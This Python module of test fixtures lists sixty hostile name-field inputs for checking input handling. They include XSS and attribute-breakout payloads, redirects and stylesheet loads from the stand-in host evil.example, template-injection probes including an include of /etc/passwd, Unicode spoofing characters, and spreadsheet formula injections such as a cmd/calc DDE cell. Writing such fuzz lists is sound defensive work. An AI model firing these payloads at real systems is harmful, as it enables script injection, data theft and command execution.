"""Sixty texts that somebody may write where a name belongs, hoping that a page, a table or a terminal takes
them for something else (T22, T23)."""

ALARM = "window.owned=1"
"""What every script here would do."""

SCRIPTS = (
    f"<script>{ALARM}</script>",
    f"</title><script>{ALARM}</script>",
    f"</textarea><script>{ALARM}</script>",
    f"</option></select><script>{ALARM}</script>",
    f"<img src=x onerror={ALARM}>",
    f"<svg onload={ALARM}>",
    f"<svg><script>{ALARM}</script></svg>",
    f"<svg><animate onbegin={ALARM} attributeName=x>",
    f"<math><mi xlink:href=javascript:{ALARM}>x",
    f"<body onload={ALARM}>",
    f"<details open ontoggle={ALARM}>",
    f"<input autofocus onfocus={ALARM}>",
    f"<iframe srcdoc='<script>top.{ALARM}</script>'>",
    f"<a href=javascript:{ALARM}>here</a>",
    f"<form action=javascript:{ALARM}><button>ok",
    f"<object data=javascript:{ALARM}>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    f"<!--><script>{ALARM}</script>",
    f"<![CDATA[<script>{ALARM}</script>]]>",
)
ATTRIBUTES = (
    f'" autofocus onfocus="{ALARM}',
    f"' autofocus onfocus='{ALARM}",
    f'"><img src=x onerror={ALARM}>',
    f"` onmouseover=`{ALARM}",
    f'x" hx-on:click="{ALARM}',
    'x" hx-get="/console/me" hx-trigger="load',
    'x" style="position:fixed;inset:0',
    "x\" formaction='//evil.example",
    f"javascript:{ALARM}",
    f"data:text/html,<script>{ALARM}</script>",
    f"&quot; onfocus=&quot;{ALARM}",
    f"&#34;&#62;&#60;script&#62;{ALARM}",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ ''.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    "{# hidden #}",
    "${7*7}",
    "<%= 7*7 %>",
    "{0.__class__}",
    "%(name)s %s %n",
)
UNSEEN = (
    "admin\u202egnp.exe",
    "\u2066\u202eelbasid\u2069 ok",
    "\u200fabc\u200e",
    "zero\u200bwidth\u200d\u2060\ufeff",
    "soft\xadhyphen",
    "null\x00 and bell\x07",
    "\x1b[2J\x1b[31mred",
    "two\r\nlines: x",
    "line\u2028para\u2029",
    "Zal\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030ago",
    "tag\U000e0041\U000e0042",
)
TABLES = (
    '=HYPERLINK("//evil.example")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
)
LONG = ("W" * 60, "wide " * 12)
HOSTILE = (*SCRIPTS, *ATTRIBUTES, *TEMPLATES, *UNSEEN, *TABLES, *LONG)
